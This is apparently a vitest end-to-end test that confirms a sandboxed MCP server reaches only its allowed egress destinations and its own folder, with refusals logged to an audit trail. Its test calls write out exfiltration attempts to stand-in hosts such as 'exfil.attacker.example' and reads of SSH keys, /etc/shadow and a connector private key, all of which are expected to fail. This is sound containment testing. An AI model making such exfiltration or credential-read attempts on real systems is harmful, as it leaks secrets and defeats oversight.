// Egress containment end to end: the real relay and connector, the real SDK Client as the agent,
// an MCP server behind the connector that tries every way out (test/fixtures/egress-probe-server.mjs)
// and server-filesystem from npm, both inside their bubblewrap sandboxes. What a contained server
// may reach is its egress list, through the connector's proxy; every refused destination fails in
// the server and is in the relay's audit trail as egress.denied with the agent and session.
import { createServer, type Server } from 'node:net';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer as createHttpServer, type Server as HttpServer } from 'node:http';
import { homedir, tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { connect } from '@switchboard/agent-sdk';
import { createWorld, FILESYSTEM, ROOT, TD, type World } from './world.js';

const PROBE = join(ROOT, 'test/fixtures/egress-probe-server.mjs');
const ALICE = `spiffe://${TD}/agent/support/alice`;

let w: World;
let aliceIds: string;
let echo: Server;
let echoPort: number;
let web: HttpServer;
let webPort: number;
let files: string;
let outside: string;

const POLICY = `trustDomain: ${TD}
servers:
  probe: { connectors: [spiffe://${TD}/connector/main], pinning: { mode: off } }
  files: { connectors: [spiffe://${TD}/connector/main], pinning: { mode: off } }
  closed: { connectors: [spiffe://${TD}/connector/main], pinning: { mode: off } }
rules:
  - id: alice
    agents: [${ALICE}]
    servers: [probe, files, closed]
    tools: { allow: ["*"] }
`;

beforeAll(async () => {
  // Stand-ins for allowed destinations (no internet here): a TCP echo and a web server on loopback.
  echo = createServer((s) => s.on('data', (d) => s.end(`pong ${d.toString().trim()}\n`)));
  await new Promise<void>((r) => echo.listen(0, '127.0.0.1', r));
  echoPort = (echo.address() as { port: number }).port;
  web = createHttpServer((_req, res) => res.end('hello over http\n'));
  await new Promise<void>((r) => web.listen(0, '127.0.0.1', r));
  webPort = (web.address() as { port: number }).port;
  files = await mkdtemp(join(tmpdir(), 'sb-contained-files-'));
  outside = await mkdtemp(join(tmpdir(), 'sb-contained-outside-'));
  await writeFile(join(files, 'hello.txt'), 'hello from the private side\n');
  await writeFile(join(outside, 'secret.txt'), 'not for the server\n');

  w = await createWorld(POLICY);
  aliceIds = await w.identity('alice', ALICE);
  await w.startConnector({
    probe: { command: process.execPath, args: [PROBE], egress: [`127.0.0.1:${echoPort}`, `127.0.0.1:${webPort}`], filesystem: { write: [files] } },
    files: { command: process.execPath, args: [FILESYSTEM, files], filesystem: { write: [files] } },
    closed: { command: process.execPath, args: [PROBE] },
  });
  await w.connector!.ready();
}, 60_000);

afterAll(async () => {
  await w?.close();
  echo?.close();
  web?.close();
  for (const d of [files, outside]) if (d) await rm(d, { recursive: true, force: true });
});

async function call(client: Client, name: string, args: Record<string, unknown>): Promise<string> {
  const r = (await client.callTool({ name, arguments: args })) as { content: { text: string }[] };
  return r.content[0]?.text ?? '';
}

async function denials(): Promise<Record<string, unknown>[]> {
  const text = await readFile(w.auditPath, 'utf8');
  return text
    .split('\n')
    .filter((l) => l !== '')
    .map((l) => JSON.parse(l) as Record<string, unknown>)
    .filter((r) => r.type === 'egress.denied');
}

async function sessionIdOf(client: Client): Promise<string> {
  // The session.open record of this client's session: the newest one for alice.
  const text = await readFile(w.auditPath, 'utf8');
  const opens = text.split('\n').filter((l) => l.includes('"session.open"')).map((l) => JSON.parse(l) as { sessionId: string; agent: string });
  void client;
  return opens.filter((o) => o.agent === ALICE).at(-1)!.sessionId;
}

async function eventually<T>(what: string, f: () => Promise<T | undefined>): Promise<T> {
  for (let i = 0; i < 100; i++) {
    const v = await f();
    if (v !== undefined) return v;
    await new Promise((r) => setTimeout(r, 20));
  }
  throw new Error(`timed out waiting for ${what}`);
}

describe('a contained server with an egress list', () => {
  let client: Client;
  let sessionId: string;
  beforeAll(async () => {
    client = await connect({ relay: w.relay.url, server: 'probe', identity: aliceIds });
    sessionId = await sessionIdOf(client);
  });
  afterAll(async () => client?.close());

  it('reaches an allowed destination through the proxy (TCP through CONNECT, and plain http)', async () => {
    expect(await call(client, 'via_proxy', { host: '127.0.0.1', port: echoPort })).toBe('ok pong ping');
    expect(await call(client, 'http_get', { url: `http://127.0.0.1:${webPort}/` })).toBe('ok hello over http');
  });

  it('is refused a domain, an IP and an IPv6 address not in its list, and each is in the audit trail', async () => {
    expect(await call(client, 'via_proxy', { host: 'exfil.attacker.example', port: 443 })).toBe('refused 403');
    expect(await call(client, 'via_proxy', { host: '198.51.100.7', port: 443 })).toBe('refused 403');
    expect(await call(client, 'via_proxy', { host: '2001:db8::1', port: 443 })).toBe('refused 403');
    expect(await call(client, 'http_get', { url: 'http://exfil.attacker.example/?q=secret' })).toMatch(/^refused 403 /);
    // An allowed host on a port its entry does not name is refused too.
    expect(await call(client, 'via_proxy', { host: '127.0.0.1', port: 22 })).toBe('refused 403');
    const got = await eventually('five egress.denied records', async () => {
      const d = (await denials()).filter((r) => r.sessionId === sessionId);
      return d.length >= 5 ? d : undefined;
    });
    expect(got.map((r) => [r.destination, r.port])).toEqual([
      ['exfil.attacker.example', 443],
      ['198.51.100.7', 443],
      ['2001:db8::1', 443],
      ['exfil.attacker.example', 80],
      ['127.0.0.1', 22],
    ]);
    for (const r of got) {
      expect(r).toMatchObject({ type: 'egress.denied', agent: ALICE, server: 'probe', connector: `spiffe://${TD}/connector/main`, sessionId });
      expect(r.reason).toMatch(/is not in egress$/);
    }
  });

  it('resolves no name itself: the lookup fails in the server and the name is in the trail (port 53)', async () => {
    expect(await call(client, 'resolve', { name: 'leak-the-secret.attacker.example' })).toMatch(/^error (ENOTFOUND|EAI_AGAIN|EAI_FAIL|ESERVFAIL|EREFUSED)$/);
    const d = await eventually('the DNS denial', async () => (await denials()).find((r) => r.sessionId === sessionId && r.destination === 'leak-the-secret.attacker.example'));
    expect(d).toMatchObject({ port: 53, agent: ALICE, server: 'probe' });
  });

  it('cannot connect directly, over IPv4 or IPv6, even to an allowed destination: the sandbox has no route', async () => {
    expect(await call(client, 'tcp', { host: '198.51.100.7', port: 443 })).toBe('error ENETUNREACH');
    expect(await call(client, 'tcp', { host: '2001:db8::1', port: 443 })).toBe('error ENETUNREACH');
    // Its loopback is its own: the host's listeners (the echo stand-in, the relay) are not on it.
    expect(await call(client, 'tcp', { host: '127.0.0.1', port: echoPort })).toBe('error ECONNREFUSED');
    expect(await call(client, 'tcp', { host: '127.0.0.1', port: Number(new URL(w.relay.url).port) })).toBe('error ECONNREFUSED');
    // The kernel drops them before a destination exists, but counts them: the trail gets that.
    const d = await eventually('the direct-connection record', async () => (await denials()).find((r) => r.sessionId === sessionId && r.destination === 'direct'));
    expect(d).toMatchObject({ port: 0, agent: ALICE, server: 'probe' });
    expect(d.reason).toMatch(/^\d+ connection attempts? around the egress proxy \(no route out of the sandbox/);
  });

  it('sees none of the host\'s files but the system, its program and its folder', async () => {
    expect(await call(client, 'read', { path: join(homedir(), '.ssh', 'id_rsa') })).toBe('error ENOENT');
    expect(await call(client, 'read', { path: '/etc/shadow' })).toBe('error ENOENT');
    expect(await call(client, 'read', { path: join(outside, 'secret.txt') })).toBe('error ENOENT');
    // The connector's own identity and the relay's trail are not there either.
    expect(await call(client, 'read', { path: join(w.dir, 'ids', 'connector', 'svid_key.pem') })).toBe('error ENOENT');
    expect(await call(client, 'read', { path: w.auditPath })).toBe('error ENOENT');
    expect(await call(client, 'read', { path: join(files, 'hello.txt') })).toBe('ok hello from the private side\n');
    expect(await call(client, 'read', { path: '/etc/ssl/certs/ca-certificates.crt' })).toMatch(/^ok -----BEGIN CERTIFICATE-----/);
  });

  it('writes only inside its folder', async () => {
    expect(await call(client, 'write', { path: join(files, 'note.txt') })).toBe('ok written');
    expect(await readFile(join(files, 'note.txt'), 'utf8')).toBe('written by the probe\n');
    expect(await call(client, 'write', { path: join(outside, 'pwned.txt') })).toMatch(/^error (ENOENT|EROFS|EACCES)$/);
    expect(await call(client, 'write', { path: join(ROOT, 'pwned.txt') })).toMatch(/^error (EROFS|EACCES)$/);
    expect(await call(client, 'write', { path: '/usr/pwned' })).toMatch(/^error (EROFS|EACCES)$/);
    // Its proxy and DNS sockets are reachable, not replaceable; its /tmp is its own.
    expect(await call(client, 'write', { path: '/run/switchboard/filler' })).toMatch(/^error (EROFS|EACCES)$/);
    expect(await call(client, 'write', { path: '/tmp/scratch' })).toBe('ok written');
  });

  it('cannot reach a unix socket it was not given (the host\'s, another session\'s proxy)', async () => {
    const sock = join(outside, 'host.sock');
    const srv = createServer(() => undefined);
    await new Promise<void>((r) => srv.listen(sock, r));
    try {
      expect(await call(client, 'unix', { path: sock })).toBe('error ENOENT');
      expect(await call(client, 'unix', { path: '/var/run/docker.sock' })).toBe('error ENOENT');
    } finally {
      srv.close();
    }
    // Abstract unix sockets belong to the network namespace: the host's are not there.
    const abstract = createServer(() => undefined);
    await new Promise<void>((r) => abstract.listen('\0switchboard-test-abstract', r));
    try {
      expect(await call(client, 'unix', { path: '\0switchboard-test-abstract' })).toBe('error ECONNREFUSED');
    } finally {
      abstract.close();
    }
  });
});

describe('a contained server with no egress', () => {
  it('has no network at all: even its proxy refuses, and the attempt is in the trail', async () => {
    const client = await connect({ relay: w.relay.url, server: 'closed', identity: aliceIds });
    try {
      const sessionId = await sessionIdOf(client);
      expect(await call(client, 'via_proxy', { host: '127.0.0.1', port: echoPort })).toBe('refused 403');
      expect(await call(client, 'tcp', { host: '198.51.100.7', port: 80 })).toBe('error ENETUNREACH');
      const d = await eventually('the denial', async () => (await denials()).find((r) => r.sessionId === sessionId));
      expect(d).toMatchObject({ destination: '127.0.0.1', port: echoPort, server: 'closed', agent: ALICE });
    } finally {
      await client.close();
    }
  });
});

describe('server-filesystem, contained', () => {
  it('works on its folder through the tunnel and sees nothing else', async () => {
    const client = await connect({ relay: w.relay.url, server: 'files', identity: aliceIds });
    try {
      const read = (await client.callTool({ name: 'read_text_file', arguments: { path: join(files, 'hello.txt') } })) as { content: { text: string }[] };
      expect(read.content[0]?.text).toBe('hello from the private side\n');
      const wrote = (await client.callTool({ name: 'write_file', arguments: { path: join(files, 'made.txt'), content: 'made inside\n' } })) as { isError?: boolean };
      expect(wrote.isError).toBeFalsy();
      expect(await readFile(join(files, 'made.txt'), 'utf8')).toBe('made inside\n');
      const dirs = (await client.callTool({ name: 'list_allowed_directories', arguments: {} })) as { content: { text: string }[] };
      expect(dirs.content[0]?.text).toContain(files);
    } finally {
      await client.close();
    }
  });
});
